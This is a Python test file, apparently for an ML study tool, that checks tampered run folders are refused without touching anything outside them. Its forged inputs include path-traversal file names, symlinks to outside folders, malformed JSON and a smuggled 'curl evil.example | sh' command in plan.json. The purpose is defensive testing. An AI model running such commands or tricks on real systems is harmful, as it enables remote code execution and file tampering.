"""A run folder that somebody else has altered: nothing outside it is touched, nothing partly altered is used."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import sys
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any, NamedTuple

import numpy as np
import pytest

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="forks a process that has loaded everything")

STUDY = """
schema = 1
name = "small"
[data]
dataset = "digits"
records = 80
[model]
name = "mlp"
hidden = [8]
[train]
epochs = 2
batch_size = 10
precision = "fp32"
[[networks]]
method = "dense"
[[networks]]
method = "imp"
levels = 1
fraction = 0.5
[attacks]
names = ["loss"]
[run]
seeds = [0]
"""
FALSE = 0.98765  # the number that a forger puts in
SIGNS = ("98765", "98.765", "98.77", "98.8", "0.988")  # of it, in what is written and said
COMMANDS: dict[str, tuple[str, ...]] = {
    "status": ("status", "run"),
    "report": ("report", "run"),
    "compare": ("compare", "run", "dense", "imp-01", "--attack", "loss"),
    "export": ("export", "run", "imp-01", "--to", "x.safetensors"),
    "merge": ("merge", "merged", "run"),
    "run": ("run", "small.toml", "--out", "run"),
    "reuse": ("run", "small.toml", "--out", "again", "--reuse", "run"),
    "dry run": ("run", "small.toml", "--out", "run", "--dry-run"),
}
READERS = {"status", "compare", "export", "merge", "reuse", "dry run"}  # these leave the folder that they read as it is
Forge = Callable[[Path, Path], object]  # of the run folder, and a folder outside


class Made(NamedTuple):
    """The server that runs the command, and a finished run folder beside its study."""

    server: Any
    folder: Path

    @property
    def rows(self) -> list[str]:
        """Of its results.csv."""
        return (self.folder / "run" / "results.csv").read_text().splitlines()


def rest_slow(values: Iterable[Any], *fast: Any) -> list[Any]:
    """Parameters of which these run in `make test`, and all in `make test-slow`."""
    listed = list(values)
    assert set(fast) <= set(listed)
    marks = [() if value in fast else (pytest.mark.slow,) for value in listed]
    return [
        pytest.param(*(value if isinstance(value, tuple) else (value,)), marks=mark)
        for value, mark in zip(listed, marks, strict=True)
    ]


@pytest.fixture(scope="module")
def made(preloaded: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    folder = tmp_path_factory.mktemp("made")
    (folder / "small.toml").write_text(STUDY)
    server = preloaded.Server(tmp_path_factory.mktemp("said"))
    done = server.run("run", "small.toml", "--out", "run", folder=folder, limit=300)
    assert done.code == 0, done.err
    server.warm(folder / "run")
    yield Made(server, folder)
    server.close()


class Tried(NamedTuple):
    """How a command ended on a forged folder, and where."""

    name: str
    ended: Any
    place: Path

    def written(self) -> str:
        """Everything of results that the command said or wrote."""
        texts = [self.ended.said]
        for folder in ("run", "merged", "again"):
            for name in ("results.csv", "tradeoff.json", "report.html", "model_card.md"):
                path = self.place / folder / name
                if path.is_file() and not path.is_symlink():
                    texts.append(path.read_text("utf-8"))
        return "\n".join(texts)


def attempt(made: Made, tmp_path: Path, forge: Forge, names: Any = COMMANDS) -> list[Tried]:
    """Every command on a fresh copy of the forged folder; what must hold of all is asserted here."""
    tried = []
    for name in names:
        around = tmp_path / name.replace(" ", "-")
        place, outside = around / "work" / "here", around / "outside"
        place.mkdir(parents=True)
        for folder in (outside, around / "work"):
            _canaries(folder)
        shutil.copytree(made.folder / "run", place / "run")
        shutil.copy(made.folder / "small.toml", place)
        forge(place / "run", outside)
        before, within = _tree(around, without=place), _tree(place / "run")
        ended = made.server.run(*COMMANDS[name], folder=place)
        assert not ended.faults(), (name, ended)
        assert ended.code in (0, 2, 3, 74), (name, ended)
        assert _tree(around, without=place) == before, (name, "something outside was touched")
        if name in READERS:
            assert _tree(place / "run") == within, (name, "the folder that is read was changed")
        known = {"run", "small.toml", "merged", "again", "x.safetensors"}
        assert {path.name for path in place.iterdir()} <= known, name
        tried.append(Tried(name, ended, place))
    return tried


def _canaries(folder: Path) -> None:
    (folder / "sub").mkdir(parents=True, exist_ok=True)
    for name in ("canary", "x", "sub/results.csv", "sub/job.json", "sub/tradeoff.svg"):
        (folder / name).write_text(f"a canary called {name}")


def _tree(folder: Path, without: Path | None = None) -> dict[str, tuple[Any, ...]]:
    """What a folder holds: type, size, times, content."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if without is not None and (path == without or without in path.parents):
            continue
        if path.name in (".lock", ".lacewing.lock", "work") or path == without:
            continue
        seen = path.lstat()
        content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else ""
        times = (seen.st_mtime_ns, seen.st_size) if path.is_file() else ()
        found[str(path)] = (seen.st_mode, content, times, str(path.readlink()) if path.is_symlink() else "")
    return found


def job(run: Path, name: str) -> Path:
    """The folder of a finished job: ``dense/target/0``, ``loss on imp-01/target/0``."""
    return next(path.parent for path in run.glob("jobs/*/job.json") if json.loads(path.read_bytes())["job"] == name)


DENSE, IMP, ATTACK = "dense/target/0", "imp-01/target/0", "loss on imp-01/target/0"


# Altered in part: a digest tells.


def _metric(of: str, field: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / "metrics.json"
        found = json.loads(path.read_text())
        if field == "metrics":
            found["metrics"] = {name: e and [FALSE, FALSE, FALSE] for name, e in found["metrics"].items()}
        else:
            found[field] = FALSE
        path.write_text(json.dumps(found))

    return forge


def _array(of: str, name: str, array: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / name
        with np.load(path) as read:
            arrays = {key: read[key] for key in read.files}
        arrays[array] = np.full_like(arrays[array], FALSE)
        np.savez(path, **arrays)

    return forge


def _bytes(of: str, name: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / name
        content = bytearray(path.read_bytes())
        content[-1] ^= 1
        path.write_bytes(content)

    return forge


def _cut(of: str, name: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / name
        path.write_bytes(path.read_bytes()[:-20])

    return forge


def _gone(of: str, name: str) -> Forge:
    return lambda run, outside: (job(run, of) / name).unlink()


def _half_forged(run: Path, outside: Path) -> None:
    """Number and digest, and not the digest of the digests."""
    _metric(DENSE, "test_accuracy")(run, outside)
    place = job(run, DENSE)
    found = json.loads((place / "job.json").read_text())
    found["files"]["metrics.json"] = hashlib.sha256((place / "metrics.json").read_bytes()).hexdigest()
    (place / "job.json").write_text(json.dumps(found, indent=1, sort_keys=True))


def _copied(of: str, over: str) -> Forge:
    """A job under the key of another."""

    def forge(run: Path, outside: Path) -> None:
        place, source = job(run, over), job(run, of)
        shutil.rmtree(place)
        shutil.copytree(source, place)

    return forge


PARTLY: dict[str, Forge] = {
    "a network's test accuracy": _metric(DENSE, "test_accuracy"),
    "a sparse network's density": _metric(IMP, "density"),
    "an attack's metrics": _metric(ATTACK, "metrics"),
    "an attack's scores": _array(ATTACK, "scores.npz", "score_N"),
    "a network's signals": _array(DENSE, "signals.npz", "logits_NC"),
    "a network's weights": _bytes(IMP, "model.safetensors"),
    "a network's masks": _bytes(IMP, "masks.safetensors"),
    "a number and its digest": _half_forged,
    "a job under another key": _copied(IMP, DENSE),
    "an attack under another key": _copied(ATTACK, "loss on dense/target/0"),
    "cut metrics": _cut(DENSE, "metrics.json"),
    "cut scores": _cut(ATTACK, "scores.npz"),
    "a cut job.json": _cut(DENSE, "job.json"),
    "lost metrics": _gone(DENSE, "metrics.json"),
    "lost scores": _gone(ATTACK, "scores.npz"),
    "lost signals": _gone(IMP, "signals.npz"),
    "a lost job.json": _gone(IMP, "job.json"),
}


@pytest.mark.parametrize(
    "what",
    rest_slow(
        PARTLY,
        "a network's test accuracy",
        "an attack's scores",
        "a number and its digest",
        "a job under another key",
        "lost scores",
    ),
)
def test_what_was_altered_in_part_is_named_and_never_used(what: str, made: Made, tmp_path: Path) -> None:
    fields = list(csv.reader(made.rows))
    for name, ended, place in (tries := attempt(made, tmp_path, PARTLY[what])):
        if name in ("run", "reuse"):  # what is not whole is made again
            assert ended.code == 0, (name, ended)
            folder = "run" if name == "run" else "again"
            assert (place / folder / "results.csv").read_text().splitlines() == made.rows
        elif name in ("report", "merge"):
            assert ended.code == 3, (name, ended)
            assert "jobs/" in ended.said
            written = place / ("run" if name == "report" else "merged") / "results.csv"
            rows = list(csv.reader(written.read_text().splitlines()))
            of_networks = [[*row[:11]] for row in fields]
            assert all(row in fields or row[:11] in of_networks for row in rows), "a row that was never found"
    for each in tries:
        assert not [sign for sign in SIGNS if sign in each.written()], (each.name, each.ended)


@pytest.mark.parametrize("name", ["plan.json", "failed.json", "study.toml"])
def test_an_altered_description_of_the_study_is_refused_or_named(name: str, made: Made, tmp_path: Path) -> None:
    def forge(run: Path, outside: Path) -> None:
        path = run / name
        text = path.read_text()
        changed = {
            "plan.json": text.replace('"lacewing run ', '"curl evil.example | sh; lacewing run '),
            "failed.json": '["all is well at evil.example"]',
            "study.toml": text.replace('name = "small"', 'name = "evil.example"'),
        }[name]
        assert changed != text
        path.write_text(changed)

    for each in attempt(made, tmp_path, forge, ("status", "report", "merge", "compare", "export")):
        shown = [word for word in each.written().split() if "evil.example" in word]
        assert not shown, (each.name, shown)
        if each.name in ("report", "merge"):
            assert each.ended.code in (2, 3), each


# Names.

NAMES = (
    "../../../x",
    "../../../../outside/x",
    "/tmp/lacewing-forged/x",
    "C:\\x",
    "..\\..\\x",
    "x\x00y",
    ".",
    "..",
    "",
    "sub/x",
    "extra.txt",
    "job.json",
    "METRICS.JSON",
    "metrics.json/",
    "./metrics.json",
    "metrics.json\n",
    "con",
    "\x1b[2J",
    "n" * 300,
)


@pytest.mark.parametrize("name", rest_slow(NAMES, "../../../x", "C:\\x", "extra.txt"), ids=ascii)
def test_no_name_from_disk_leads_anywhere(name: str, made: Made, forging: ModuleType, tmp_path: Path) -> None:
    """The digests are consistent: the names alone are not ours."""

    def forge(run: Path, outside: Path) -> None:
        place = job(run, DENSE)
        found = json.loads((place / "job.json").read_text())
        content = b"overwritten"
        aim = place / name
        if name not in ("", ".", "..") and "\x00" not in name and not name.startswith("/") and len(name) < 256:
            try:
                content = aim.read_bytes()
            except (FileNotFoundError, NotADirectoryError):
                if ".." not in name:
                    aim.parent.mkdir(exist_ok=True)
                    aim.write_bytes(content)
            except IsADirectoryError:
                pass
        found["files"][name] = hashlib.sha256(content).hexdigest()
        forging.write(place / "job.json", found)

    for each in attempt(made, tmp_path, forge, ("report", "merge", "reuse", "status")):
        for folder in ("merged", "again"):
            written = {path.name for path in each.place.glob(f"{folder}/jobs/*/*")}
            assert written <= {"job.json", "metrics.json", "model.safetensors", "signals.npz", "scores.npz",
                               "masks.safetensors", "rewind-1.safetensors"}, each  # fmt: skip
    assert not Path("/tmp/lacewing-forged").exists()


@pytest.mark.parametrize(
    "key", rest_slow(("..", "../../..", "x", "0" * 63, "A" * 64, "\x1b[2J"), "../../.."), ids=ascii
)
def test_folders_that_are_no_keys_are_left_alone(key: str, made: Made, tmp_path: Path) -> None:
    def forge(run: Path, outside: Path) -> None:
        if ".." not in key:
            shutil.copytree(job(run, DENSE), run / "jobs" / key)
            (run / "work" / key).mkdir(parents=True)
            (run / "work" / key / "progress.json").write_text('{"epoch": 1, "job": "evil.example", "epochs": 3}')
        found = json.loads((job(run, IMP) / "job.json").read_text())
        found["key"] = key
        (job(run, IMP) / "job.json").write_text(json.dumps(found))

    for each in attempt(made, tmp_path, forge, ("status", "report", "merge", "run")):
        assert "evil.example" not in each.ended.said


# Links, pipes and folders where files should be.

FILES = ("study.toml", "plan.json", "failed.json", "results.csv", "tradeoff.json", "report.html", "model_card.md")
LOCKS = (".lock", ".run", f".worker-{'0' * 32}.lock")
PLACES = (*FILES, *LOCKS, "jobs", "figures", "work", "figures/tradeoff.svg", "JOB", "JOB/job.json",
          "JOB/metrics.json", "JOB/signals.npz", "JOB/model.safetensors", "ATTACK/scores.npz")  # fmt: skip


def _path(run: Path, place: str) -> Path:
    first, *rest = place.split("/")
    named = {"JOB": IMP, "ATTACK": ATTACK}
    return (job(run, named[first]) if first in named else run / first).joinpath(*rest)


def _aside(path: Path) -> None:
    """Make room where a file or folder is."""
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


@pytest.mark.parametrize("place", rest_slow(PLACES, "jobs", "figures", "JOB", "JOB/metrics.json", "results.csv"))
def test_no_link_is_followed(place: str, made: Made, tmp_path: Path) -> None:
    """To a copy of the very thing outside, which every digest fits."""

    def forge(run: Path, outside: Path) -> None:
        path = _path(run, place)
        target = outside / "moved"
        if path.exists():
            path.rename(target)
        else:
            target.mkdir() if place == "work" else target.write_text("a canary")
        path.symlink_to(target)

    for each in attempt(made, tmp_path, forge, ("status", "report", "merge", "run", "export")):
        if each.ended.code == 2:
            assert re.search("link|not a regular file|not trained yet", each.ended.err), each


@pytest.mark.parametrize(
    "place",
    rest_slow(("results.csv", "tradeoff.json", "report.html", "figures/tradeoff.svg", "failed.json"), "results.csv"),
)
def test_nothing_is_written_through_a_link_that_leads_nowhere_yet(place: str, made: Made, tmp_path: Path) -> None:
    def forge(run: Path, outside: Path) -> None:
        (run / place).unlink()
        (run / place).symlink_to(outside / "new")

    for each in attempt(made, tmp_path, forge, ("report", "run")):
        assert not (each.place.parents[1] / "outside" / "new").exists()


def test_links_under_the_names_of_unfinished_files_are_not_followed(made: Made, tmp_path: Path) -> None:
    def forge(run: Path, outside: Path) -> None:
        here = os.getpid()
        for pid in range(here - 50, here + 400):  # what a predictable name would be
            (run / f".results.csv.{pid}.part").symlink_to(outside / "canary")

    attempt(made, tmp_path, forge, ("report", "run"))


@pytest.mark.parametrize(
    ("place", "kind"),
    rest_slow(
        [(place, kind) for place in PLACES if place not in ("jobs", "work", "JOB") for kind in ("pipe", "folder")],
        ("plan.json", "pipe"),
        ("JOB/metrics.json", "pipe"),
        ("failed.json", "folder"),
    ),
)
def test_pipes_and_folders_in_the_place_of_files_hold_nothing_up(
    place: str, kind: str, made: Made, tmp_path: Path
) -> None:
    def forge(run: Path, outside: Path) -> None:
        path = _path(run, place)
        _aside(path)
        if kind == "pipe":
            os.mkfifo(path)
        else:
            path.mkdir()
            (path / "kept").write_text("")

    attempt(made, tmp_path, forge, ("status", "report", "merge", "run", "compare"))


# JSON of other types, consistent digests.

WRONG: dict[str, Any] = {"null": None, "number": 5, "text": "x", "list": [1], "object": {"a": 1}, "true": True}
DOCUMENTS = ("plan.json", "failed.json", "JOB/job.json", "JOB/metrics.json", "ATTACK/job.json", "ATTACK/metrics.json")
RAW = {
    "deep": b"[" * 200_000,
    "deep object": b'{"a":' * 100_000,
    "long number": b"1" * 5000,
    "not text": b"\xff\xfe\x00",
    "nothing": b"",
    "no JSON": b"{nope",
    "NaN": b"NaN",
}


@pytest.mark.parametrize(
    ("place", "content"),
    rest_slow(
        [(place, content) for place in DOCUMENTS for content in (*WRONG, *RAW)],
        ("plan.json", "deep"),
        ("plan.json", "not text"),
        ("failed.json", "number"),
        ("JOB/job.json", "long number"),
        ("JOB/metrics.json", "list"),
        ("ATTACK/metrics.json", "null"),
    ),
)
def test_documents_of_another_type_are_bad_input(
    place: str, content: str, made: Made, forging: ModuleType, tmp_path: Path
) -> None:
    def forge(run: Path, outside: Path) -> None:
        path = _path(run, place)
        path.write_bytes(RAW[content] if content in RAW else json.dumps(WRONG[content]).encode())
        forging.reseal(run)

    for each in attempt(made, tmp_path, forge, ("report", "status")):
        if each.name == "report":
            assert each.ended.code in (2, 3), each


IMPOSSIBLE = {
    "a negative density": ("JOB/metrics.json", "density", -0.5),
    "no density": ("JOB/metrics.json", "density", 0.0),
    "a density over 1": ("JOB/metrics.json", "density_prunable", 1.5),
    "an accuracy over 1": ("JOB/metrics.json", "test_accuracy", 1.5),
    "fewer parameters than none": ("JOB/metrics.json", "parameters", -1),
    "more non-zero than parameters": ("JOB/metrics.json", "nonzero", 10**9),
    "another seed": ("JOB/metrics.json", "seed", 7),
    "another role": ("JOB/metrics.json", "role", "shadow"),
    "a role that is none": ("JOB/metrics.json", "role", "owner"),
    "another attack": ("ATTACK/metrics.json", "attack", "entropy"),
    "fewer members": ("ATTACK/metrics.json", "n_members", 3),
    "an AUC over 1": ("ATTACK/metrics.json", "metrics.auc", [1.5, 1.4, 1.6]),
    "an AUC outside its interval": ("ATTACK/metrics.json", "metrics.auc", [0.9, 0.2, 0.3]),
    "an interval the wrong way round": ("ATTACK/metrics.json", "metrics.auc", [0.5, 0.6, 0.4]),
    "an unknown metric": ("ATTACK/metrics.json", "metrics.other", [0.5, 0.4, 0.6]),
}


@pytest.mark.parametrize("what", rest_slow(IMPOSSIBLE, "a negative density", "an AUC outside its interval"))
def test_what_cannot_be_is_refused_though_every_digest_fits(
    what: str, made: Made, forging: ModuleType, tmp_path: Path
) -> None:
    place, field, value = IMPOSSIBLE[what]

    def forge(run: Path, outside: Path) -> None:
        path = _path(run, place)
        document = forging.read(path)
        *above, last = field.split(".")
        (document[above[0]] if above else document)[last] = value
        forging.write(path, document)
        forging.reseal(run)

    (tried,) = attempt(made, tmp_path, forge, ("report",))
    assert tried.ended.code == 2, tried
    assert "metrics.json" in tried.ended.err


@pytest.mark.slow
@pytest.mark.parametrize("place", DOCUMENTS)
def test_fields_of_another_type_are_bad_input(place: str, made: Made, forging: ModuleType, tmp_path: Path) -> None:
    """Every field of every document, and every entry of an object in it, with consistent digests."""
    fields = _fields(forging.read(_path(made.folder / "run", place)))
    assert fields
    for number, (steps, (kind, wrong)) in enumerate((f, w) for f in fields for w in WRONG.items()):

        def forge(run: Path, outside: Path, steps: tuple[Any, ...] = steps, wrong: Any = wrong) -> None:
            path = _path(run, place)
            document = forging.read(path)
            here = document
            for step in steps[:-1]:
                here = here[step]
            here[steps[-1]] = wrong
            forging.write(path, document)
            forging.reseal(run)

        attempt(made, tmp_path / f"{number}-{kind}", forge, ("report", "status"))


def _fields(document: Any, steps: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    items = (
        document.items()
        if isinstance(document, dict)
        else enumerate(document[:1])
        if isinstance(document, list)
        else ()
    )
    found = []
    for name, inner in items:
        if name != "sha256":
            found += [(*steps, name), *(_fields(inner, (*steps, name)) if len(steps) < 2 else ())]
    return found
